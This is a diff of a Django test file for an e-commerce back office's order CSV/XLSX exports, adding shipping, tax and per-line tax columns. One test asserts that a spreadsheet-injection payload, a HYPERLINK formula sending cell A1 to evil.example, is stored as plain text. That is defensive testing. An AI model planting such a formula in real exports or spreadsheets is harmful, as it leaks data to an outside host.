@@ -9,16 +9,20 @@ from django.conf import settings
 from openpyxl import load_workbook
 
 from checkout.backoffice.exports import safe_text
-from checkout.models import Order
+from checkout.models import Order, ShippingMethod
+from checkout.orders import services
+from demo.shipping import ensure_shipping_and_taxes
 
-from .factories import make_order, user_in_group
+from .conftest import ListCart
+from .factories import CUSTOMER, make_order, user_in_group
 
 pytestmark = pytest.mark.django_db
 
 HEADER = [
     "Order", "Placed (UTC)", "Status", "Language", "Currency", "First name", "Last name", "Email", "Address",
-    "Postal code", "City", "Country", "Subtotal", "Discount", "Total", "SKU", "Product", "Unit price", "Quantity",
-    "Line total",
+    "Postal code", "City", "Country", "Tax ID", "Subtotal", "Discount", "Shipping method", "Shipping",
+    "Prices include tax", "Tax", "Total", "SKU", "Product", "Unit price", "Quantity", "Line total", "Line discount",
+    "Tax rate (%)", "Line net", "Line tax", "Line gross",
 ]  # fmt: skip
 
 
@@ -83,8 +87,10 @@ def test_the_csv_has_one_row_per_line_with_the_order_repeated(client, manager, o
         ["Pending payment", "en", "USD", "Ana", "Pérez", email, "Calle Mayor 1", "28001", "Madrid", "ES"]
     ] * 2
     assert [row[12:] for row in ana_rows] == [
-        ["57.00", "0.00", "57.00", "KET-1", "Kettle", "24.50", "2", "49.00"],
-        ["57.00", "0.00", "57.00", "MUG-1", "Mug", "8.00", "1", "8.00"],
+        ["", "57.00", "0.00", "", "0.00", "True", "0.00", "57.00", "KET-1", "Kettle", "24.50", "2", "49.00"]
+        + ["0.00", "0.00", "49.00", "0.00", "49.00"],
+        ["", "57.00", "0.00", "", "0.00", "True", "0.00", "57.00", "MUG-1", "Mug", "8.00", "1", "8.00"]
+        + ["0.00", "0.00", "8.00", "0.00", "8.00"],
     ]
     assert len(rows) == 1 + 3
 
@@ -128,8 +134,8 @@ def test_the_xlsx_keeps_text_as_text_and_numbers_as_numbers(client, manager, ord
     assert [row[0].value for row in rows[1:]] == ["SF-000001", "SF-000001", "SF-000002"]
     name = rows[3][5]
     assert (name.value, name.data_type) == ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "s")
-    assert (rows[1][14].value, rows[1][14].data_type) == (57, "n")
-    assert rows[1][18].value == 2
+    assert (rows[1][19].value, rows[1][19].data_type) == (57, "n")
+    assert rows[1][23].value == 2
 
 
 def test_the_filtered_xlsx_download(client, manager, orders):
@@ -138,3 +144,15 @@ def test_the_filtered_xlsx_download(client, manager, orders):
     sheet = load_workbook(io.BytesIO(response.content)).active
     assert response["Content-Disposition"] == 'attachment; filename="orders.xlsx"'
     assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["SF-000002"]
+
+
+def test_shipping_and_tax_are_exported_per_order_and_per_line(client, manager, shop):
+    ensure_shipping_and_taxes()
+    post = ShippingMethod.objects.get(name="International post", locale__language_code="en")
+    customer = {**CUSTOMER, "country": "RU", "tax_id": "7701234567"}
+    order = services.place_order(ListCart((shop["kettle"], 1)), customer, "en", shipping_method=post.pk)
+
+    (row,) = read_csv(client.get(f"/admin/bulk/checkout/order/export_csv/?id={order.pk}"))[1:]
+
+    assert row[11:20] == ["RU", "7701234567", "24.50", "0.00", "International post", "14.95", "True", "6.57", "39.45"]
+    assert row[24:] == ["24.50", "0.00", "20.00", "20.42", "4.08", "24.50"]
